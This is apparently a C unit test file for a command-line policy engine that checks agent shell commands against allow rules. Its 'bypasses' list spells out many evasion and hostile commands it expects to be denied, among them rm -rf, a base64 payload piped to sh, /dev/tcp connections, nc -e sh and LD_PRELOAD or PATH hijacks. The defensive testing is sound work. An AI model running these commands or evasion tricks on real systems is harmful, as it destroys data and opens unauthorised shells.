/* SPDX-License-Identifier: Apache-2.0 */
/* What the reader of command lines finds, and every known way around it, which must not be allowed. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "bastion/base/strvec.h"
#include "bastion/conf_tree.h"
#include "bastion/policy/policy.h"
#include "bastion/policy/script.h"

static const char narrow[] =
	"rules:\n"
	"  - {id: read, who: [agent/*], on: [web1], exec: [ls, echo, cat, \"git status\"], do: allow}\n";

static struct policy *
load(const char *text)
{
	struct tree_error e = { .file = "test" };
	struct policy *p = NULL;

	if (policy_load("test", text, strlen(text), &p, &e) != 0)
		fail_msg("%s", e.text);
	free(e.text);
	return p;
}

static struct verdict
judge(const struct policy *p, const char *command)
{
	struct subject who = { .identity = "agent/ci" };
	struct request req = { .kind = REQUEST_EXEC, .target = "web1", .login = "deploy" };
	struct verdict v;

	req.command = (const uint8_t *)command;
	req.command_len = strlen(command);
	decide(p, &who, &req, &v);
	return v;
}

static const char *const allowed[] = {
	"ls", "ls -la /srv", "/bin/ls", "'ls' \"-l\"", "l\\s", "ls; echo done", "ls && echo a || cat b", "ls | cat",
	"(ls)", "{ ls; }", "if ls; then echo y; else echo n; fi", "for i in a b; do echo \"$i\"; done",
	"while false; do ls; done", "case x in a|b) ls;; *) echo;; esac", "echo $(ls)", "echo `ls`", "echo \"$(ls) x\"",
	"ls >/dev/null 2>&1", "cat <<EOF\nrm -rf /\nEOF\n", "cat <<'EOF'\n$(rm)\nEOF\n", "cat <<-E\n\thi $(ls)\n\tE\n",
	"env LANG=C ls", "timeout 5 ls", "nice -n 5 ls", "nohup ls", "time -p ls", "sh -c 'ls; echo x'",
	"bash -ec \"echo 'a b'\"", "find_=1 ls", "X=1; echo $X", "ls # rm -rf /", "echo a\\\nb", "cd /srv && ls *.c",
	"echo ${X:-a}", "echo $((1 + 2))", "xargs echo", "git status -s", "! ls", "ls &", "ls\nls\n", "echo {}",
	"set -eu; ls", "test -f x && ls", "command ls", "exec ls", "echo 'a;b|c&d'", "echo '$(rm)'", "echo \\$\\(rm\\)",
	"echo a#b", "echo $?", "[ \"$x\" = y ] && ls", "stdbuf -oL ls", "setsid -w ls", "ls 2>/dev/null </dev/null",
};

/* Each line is a way to run something else, or to run what the words do not say. */
static const char *const bypasses[] = {
	"rm -fr /", "rm --recursive --force /", "ls; rm -rf /", "ls && rm x", "ls || rm x", "ls | rm x", "ls & rm x", "ls\nrm x", "time ! rm x", "time X=1 rm x",
	"uniq a b", "# comment\nrm x", "ls # c\nrm x", "env rm x", "env -i rm x", "env -S 'rm x'", "xargs rm", "xargs -0 rm -f",
	"xargs -I sh sh -c ls", "xargs -I{} {} x", "find . -exec rm {} +", "find . -delete", "sudo rm x", "sudo ls",
	"watch rm x", "setsid rm x", "ssh host rm x", "ssh host ls", "docker exec c ls", "kubectl exec p -- ls",
	"nsenter -t 1 ls", "parallel ls", "r\"\"m x", "r'm' x", "r\\m x", "r\\\nm x", "ec\\\nho; rm x", "$'\\x72m' x",
	"$'ls' x", "$(echo rm) x", "`echo rm` x", "X=rm; $X y", "X=ls; $X", "${X} y", "${X:-rm} y", "\"$X\" y", "IFS=x; ls",
	"PATH=/tmp:$PATH ls", "PATH=/tmp; ls", "LD_PRELOAD=/tmp/x.so ls", "BASH_ENV=/tmp/x ls", "GIT_SSH_COMMAND=x git status",
	"GIT_PAGER=x git status", "env PATH=/tmp ls", "export PATH=/tmp; ls", "export PATH; ls", "read PATH; ls",
	"for PATH in /tmp; do ls; done", "echo ${PATH:=/tmp}; ls", "printf -v PATH /tmp; ls", "unset PATH; ls",
	"ls() { rm x; }; ls", "ls () ( rm x ); ls", "function ls { rm x; }; ls", "echo () sh && echo", "cd() { :; }; cd /",
	"alias ls=rm; ls", "eval ls", "eval 'rm x'", ". ./x", "source ./x", "trap 'rm x' EXIT", "trap 'rm x' 0; ls",
	"exec rm x", "echo cm0gLXJmIC8= | base64 -d | sh", "echo ls | sh", "echo ls | bash -s", "cat x | sh", "sh", "bash",
	"sh <<EOF\nrm x\nEOF\n", "cat <<EOF\n$(rm x)\nEOF\n", "cat <<EOF\n`rm x`\nEOF\n", "bash <<< 'rm x'", "cat <<< x",
	"cat <<EOF\nls", "cat <<E\\\nOF\n$(rm)\nEOF\n", "/bin/r? x", "/bin/l? x", "l* x", "{rm,x}", "{ls,x}", "r{m,} x",
	"cat <(rm x)", "ls > >(rm x)", "diff <(ls) <(rm)", "git -c alias.x='!rm' x", "git -c core.pager=rm status",
	"git status; git -c core.fsmonitor=rm status", "git clone --upload-pack=rm x", "git clone -u rm x", "git push",
	"git submodule foreach rm", "git bisect run rm", "tar cf x --checkpoint=1 --checkpoint-action=exec=rm x",
	"tar cf x -I rm y", "tar cIf rm x y", "rsync -e rm x y:", "vim -c '!rm'", "vi x", "awk 'BEGIN{system(\"rm\")}'",
	"python -c 'import os'", "python3", "python3 -", "perl -e 'unlink 1'", "sed 's/x/y/e' f", "sed '1e rm' f", "sed -n 'w f' x",
	"less x", "man ls", "sudo -s", "su -c ls", "su", "doas rm x", "busybox rm x", "/tmp/ls", "./ls", "../ls", "~/ls",
	"ls > /etc/passwd", "ls >> ~/.bashrc", "ls >| x", "ls <> x", "ls > $X", "ls >& x", "ls &> x", "echo x > ~/.ssh/rc",
	"cat < /dev/tcp/1.2.3.4/80", "echo x > /dev/tcp/1.2.3.4/80", "echo $((x))", "echo $((a[$(rm)]))", "echo $[1]",
	"((x=1))", "[[ -v 'a[$(rm)]' ]]", "test -v 'a[$(rm)]'", "[ -v 'a[$(rm)]' ]", "[ $x ]", "[ \"$a\" \"$b\" ]",
	"unset 'a[$(rm)]'", "export 'a[$(rm)]=1'", "a[$(rm)]=1", "a[0]=1; ls", "a=(ls); ls", "echo ${!x}", "echo ${x@P}",
	"echo ${x[$(rm)]}", "echo ${x:$(rm)}", "echo ${x//a/b}", "coproc rm x", "select x in a; do rm; done", "time rm x",
	"timeout 5 rm x", "timeout -s KILL 5 rm x", "timeout \"$X\" ls", "nice rm x", "nice $X ls", "nohup rm x",
	"command rm x", "builtin eval rm", "if rm x; then ls; fi", "if ls; then rm x; fi", "while rm; do ls; done",
	"for i in $(rm x); do ls; done", "case $(rm) in *) ls;; esac", "case x in $(rm)) ls;; esac", "echo \"`rm x`\"",
	"echo \"${x:-$(rm)}\"", "echo \"$(echo \"$(rm)\")\"", "sh -c 'rm x'", "sh -c \"$X\"", "bash -c 'ls; sh -c \"rm x\"'",
	"bash --rcfile /tmp/x -c ls", "bash -ic ls", "sh /dev/stdin", "sh -c", "env", "", " ", "#", "ls |& rm", "ls ;; rm",
	"=rm x", "ls *(e:'rm':)", "ls (rm)", "echo ~$(rm)", "! rm x", "{ rm x; }", "(rm x)", "(ls; (rm x))", "ls;(rm)",
	"ls 12>x", "enable -f /tmp/x.so ls; ls", "hash -p /tmp/x ls; ls", "set -o history; ls", "shopt -s x; ls", "nc -e sh h 1",
	"echo 'x", "echo \"x", "echo `ls", "echo $(ls", "echo ${x", "echo \\", "if ls; then", "done", "}", ")", "ls )", "&& ls",
	"ls &&", "| ls", ";", "repeat 3 ls", "noglob rm", "- rm x", "\xc3\xa9", "ls \xe2\x80\xae""x", "ls \x1b[0m", "ls \r", "ls \xff",
	"flock x rm", "strace ls", "script -c rm", "at now", "crontab -", "systemd-run ls", "unshare ls", "chroot / ls",
};

static void
test_allowed(void **state)
{
	struct policy *p = load(narrow);

	(void)state;
	for (size_t i = 0; i < sizeof(allowed) / sizeof(allowed[0]); i++) {
		struct verdict v = judge(p, allowed[i]);

		if (v.what != DECISION_ALLOW)
			fail_msg("'%s' is denied by %s: %s (%s)", allowed[i], v.rule, v.because, v.detail);
	}
	policy_free(p);
}

static void
test_bypasses(void **state)
{
	struct policy *p = load(narrow);

	(void)state;
	for (size_t i = 0; i < sizeof(bypasses) / sizeof(bypasses[0]); i++) {
		struct verdict v = judge(p, bypasses[i]);

		if (v.what != DECISION_DENY)
			fail_msg("'%s' is not denied: %s by %s", bypasses[i], decision_word(v.what), v.rule);
	}
	policy_free(p);
}

static void
expect_commands(const char *text, const char *want)
{
	struct strvec v = STRVEC_INIT;
	struct script s;
	char *got;

	script_parse(&s, text, strlen(text));
	script_resolve(&s);
	for (size_t i = 0; i < s.n; i++)
		if (s.v[i].words.n > 0 || s.v[i].writes.n > 0)
			strvec_take(&v, command_text(&s.v[i]));
	got = strvec_join(&v, " / ");
	assert_null(s.unresolved);
	assert_string_equal(got, want);
	free(got);
	strvec_release(&v);
	script_release(&s);
}

static void
test_commands(void **state)
{
	(void)state;
	expect_commands("a | b; c && d || e & f", "a / b / c / d / e / f");
	expect_commands("a $(b `c` \"$(d)\") > f", "a ..? >f / b ..? ..? / c / d");
	expect_commands("sudo -u x timeout 5 env A=1 rm -rf /", "rm -rf / / sudo -u x");
	expect_commands("sh -c 'a; b' x", "a / b");
	expect_commands("find . -name x -exec a {} + -o -delete", "find . -name x -exec a {} + -o -delete / a ..? / rm -r .");
	expect_commands("f() { a; }; b <<X\n$(c)\nX\nd", "f / a / b / c / d");
	expect_commands("sed -i 's/a/b/g' f", "sed -i s/a/b/g f >f");
}

static void
test_malformed(void **state)
{
	struct policy *p = load(narrow);
	char *big = malloc(SCRIPT_MAX_BYTES + 2);

	(void)state;
	memset(big, 'a', SCRIPT_MAX_BYTES + 1);
	big[SCRIPT_MAX_BYTES + 1] = '\0';
	assert_string_equal(judge(p, big).rule, "malformed");
	assert_string_equal(judge(p, "ls \x01").rule, "malformed");
	assert_string_equal(judge(p, "ls \xe2\x80\x8b").rule, "malformed");
	assert_string_equal(judge(p, "eval x").rule, "unresolved");
	assert_string_equal(judge(p, "rm x").rule, "default");
	free(big);
	policy_free(p);
}

/* Deep and wide inputs end, and end refused. */
static void
test_bounds(void **state)
{
	static const char *const units[] = { "$(", "(", "{ ", "if ", "${x:-", "`", "\"$(", "\\\n", "a;", "a ", "! ", "sh -c '",
	    "<<a ", "f() {", "\n" };
	struct policy *p = load(narrow);
	char *s = malloc(SCRIPT_MAX_BYTES + 1);

	(void)state;
	for (size_t i = 0; i < sizeof(units) / sizeof(units[0]); i++) {
		size_t n = strlen(units[i]);

		for (size_t k = 0; k < SCRIPT_MAX_BYTES; k++)
			s[k] = units[i][k % n];
		s[SCRIPT_MAX_BYTES] = '\0';
		assert_int_equal(judge(p, s).what, DECISION_DENY);
	}
	free(s);
	policy_free(p);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_allowed),
		cmocka_unit_test(test_bypasses),
		cmocka_unit_test(test_commands),
		cmocka_unit_test(test_malformed),
		cmocka_unit_test(test_bounds),
	};

	cmocka_set_message_output(CM_OUTPUT_TAP);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
